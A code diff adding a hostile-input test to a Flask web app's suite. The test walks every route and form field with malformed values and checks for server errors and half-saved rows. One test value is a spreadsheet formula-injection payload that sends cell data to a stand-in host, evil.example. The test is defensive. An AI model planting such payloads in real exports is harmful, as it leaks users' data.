@@ -1,7 +1,12 @@
 """Hostile and careless input: normalised in one place (app/core/inputs.py), never a 500,
 nothing half-saved."""
+import re
+from urllib.parse import urlencode
+
 import pytest
 from sqlalchemy import select
+from sqlalchemy import text as sa_text
+from werkzeug.routing import IntegerConverter
 
 from app.extensions import db
 
@@ -118,3 +123,153 @@ def test_dates_in_urls_and_query_strings_answer_in_chinese(client, tree, users):
     for value in ("0001-01-01", "9999-12-31"):
         resp = client.get(f"/admin/audit?start={value}&end={value}")
         assert resp.status_code == 200 and "开始日期应在 2000-01-01" in resp.get_data(as_text=True)
+
+
+# --- the walker: every route × every field × hostile values, as a grid worker and as the admin -------------
+
+HOSTILE = {
+    "text": "甲\x00乙\x1b[31m\x07\x7f\x85ａｄｍｉｎ\u200b\u202e１２３",  # NUL, controls, look-alikes
+    "long": "长" * 100_000,
+    "huge": str(2**63),
+    "negative": "-1",
+    "year1": "0001-01-01",
+    "year9999": "9999-12-31",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+}
+# Each route gets every cheap value (refused while the request is read) and, turn by turn, one of each
+# pair of the others: the walk stays a few minutes on a slow machine and every value meets every kind of
+# field across the routes.
+ALWAYS = ("text", "long")
+TURNS = (("huge", "negative"), ("year1", "year9999"), ("formula", "text"))
+INVALID_UTF8 = b"\xff\xfe\xc3("
+# Query-string names any list or page reads.
+QUERY_NAMES = ("page", "grid_id", "q", "week", "start", "end", "month", "period", "status", "state", "kind", "size",
+               "household_id", "unit_id", "category_id", "event_id", "actor", "action", "entity", "entity_id",
+               "receipt", "next", "target", "leaf", "role", "party", "mine", "overdue", "year", "quarter")
+# Fields a form needs to say which of its forms is sent (kept as the page has them).
+KEEP_FIELDS = {"csrf_token", "action", "which", "form_key"}
+# Posts whose effect does not depend on what is typed and that would end the walk (or the account) early.
+SKIP_POSTS = {"accounts.logout", "accounts.user_toggle", "accounts.user_reset_password", "main.setup"}
+# Rows that a refused request rightly leaves: the audit trail, failed logins, rate-limit counters, sessions.
+UNCOUNTED = {"audit_log", "login_failure", "login_session", "rate_counter", "form_stash", "schedule_run"}
+FIELD_RE = re.compile(r'<(input|select|textarea)\b([^>]*)>', re.S)
+ATTR_RE = re.compile(r'([a-zA-Z_-]+)="([^"]*)"')
+
+
+def _row_counts():
+    tables = [t for t in sorted(db.metadata.tables) if t not in UNCOUNTED]
+    sql = "SELECT " + ", ".join(f'(SELECT count(*) FROM "{t}")' for t in tables)
+    return dict(zip(tables, db.session.execute(sa_text(sql)).one()))
+
+
+def _fields(html):
+    """(name, value) of every field of the page's forms, as a browser would send them untouched."""
+    out = {}
+    for tag, attrs in FIELD_RE.findall(html):
+        a = dict(ATTR_RE.findall(attrs))
+        name = a.get("name")
+        if not name or a.get("type") in ("file", "submit", "button"):
+            continue
+        out.setdefault(name, a.get("value", ""))
+    return out
+
+
+def _is_pdf(rule):
+    return rule.rule.endswith(".pdf") or "pdf" in rule.endpoint or "print" in rule.endpoint
+
+
+class Walk:
+    """Requests of one logged-in client; every 5xx or half-saved refusal is collected, not raised."""
+
+    def __init__(self, app, client, role):
+        self.app, self.client, self.role, self.problems, self.requests = app, client, role, [], 0
+
+    def send(self, method, url, *, data=None, body=None):
+        with self.app.app_context():
+            before = _row_counts()
+        self.requests += 1
+        try:
+            if body is not None:
+                resp = self.client.raw.open(url, method=method, data=body,
+                                            content_type="application/x-www-form-urlencoded")
+            else:
+                resp = self.client.raw.open(url, method=method, data=data)
+        except Exception as exc:  # noqa: BLE001 - TESTING propagates what would be a 500
+            self.problems.append(f"{self.role}: {method} {url[:120]} raised {type(exc).__name__}: {str(exc)[:200]}")
+            with self.app.app_context():
+                db.session.rollback()
+            return None
+        if resp.status_code >= 500:
+            self.problems.append(f"{self.role}: {method} {url[:120]} answered {resp.status_code}")
+        refused = resp.status_code >= 400 or (method == "POST" and resp.status_code == 200)
+        if refused:
+            with self.app.app_context():
+                after = _row_counts()
+            changed = {t: (before[t], after[t]) for t in before if before[t] != after[t]}
+            if changed:
+                self.problems.append(f"{self.role}: {method} {url[:120]} was refused ({resp.status_code}) "
+                                     f"but changed {changed}")
+        return resp
+
+
+def _walk(app, client, role, ids):
+    from tests.test_route_matrix import _routes
+
+    walk = Walk(app, client, role)
+    routes = [(rule, method, url) for rule, method, url in _routes(app, ids) if rule.endpoint != "static"]
+    # Deleting and cancelling last: the records they remove are what the other routes take.
+    routes.sort(key=lambda r: (r[1] == "POST", any(w in r[0].endpoint for w in ("delete", "remove", "cancel", "archive"))))
+    for turn, (rule, method, url) in enumerate(routes):
+        values = ALWAYS + tuple(pair[turn % 2] for pair in TURNS)
+        if method == "GET":
+            for name in values[2:4] if _is_pdf(rule) else values:
+                value = HOSTILE[name][:2000] if name == "long" else HOSTILE[name]
+                walk.send("GET", url + "?" + urlencode({k: value for k in QUERY_NAMES}))
+            if not _is_pdf(rule):
+                walk.send("GET", url + "?" + "&".join(f"{k}=%FF%FE" for k in QUERY_NAMES))
+            for arg in rule.arguments:  # text in the path: a day, a month, a code, a token
+                if not isinstance(rule._converters.get(arg), IntegerConverter):
+                    for value in ("0001-01-01", "9999-12", "%00", "x" * 3000):
+                        walk.send("GET", url.replace(_path_value(rule, arg, ids), value, 1))
+            continue
+        if rule.endpoint in SKIP_POSTS:
+            continue
+        page = client.get(url) if "GET" in rule.methods else None
+        if page is not None and page.status_code == 200 and page.mimetype == "text/html":
+            fields = _fields(page.get_data(as_text=True))
+        else:
+            client.get("/")
+            fields = {}
+        for name in dict.fromkeys(values):
+            data = {k: (v if k in KEEP_FIELDS or k.endswith("version") else HOSTILE[name]) for k, v in fields.items()}
+            data["csrf_token"] = client.token
+            walk.send("POST", url, data=data)
+        raw = "&".join(f"{k}={INVALID_UTF8.decode('latin-1')}" for k in fields if k not in KEEP_FIELDS)
+        walk.send("POST", url, body=(f"csrf_token={client.token}&" + raw).encode("latin-1"))
+    return walk
+
+
+def _path_value(rule, arg, ids):
+    """The sample value the URL carries for ``arg`` (as the route matrix chose it)."""
+    from tests.test_route_matrix import _sample
+
+    return str(_sample(arg, rule, ids))
+
+
+@pytest.mark.parametrize("role", ["worker", "admin"])
+def test_hostile_input_walker(app, make_client, tree, users, role):
+    """Every route of the URL map × every form field × hostile values: no 5xx, nothing half-saved."""
+    from tests.test_route_matrix import own_ids
+
+    ids = own_ids(app, tree, users, role)
+    client = make_client()
+    client.login(role)
+    walk = _walk(app, client, role, ids)
+    assert walk.requests > 400
+    assert not walk.problems, "\n".join(walk.problems[:60])
+
+
+def test_a_period_refused_on_a_grid_page_keeps_the_grid_of_the_path(client, tree, users):
+    client.login("admin")
+    resp = client.get(f"/assessment/grids/{tree['county']}?grid_id=x&period=9999-12")
+    assert resp.status_code == 302 and resp.headers["Location"].startswith(f"/assessment/grids/{tree['county']}")
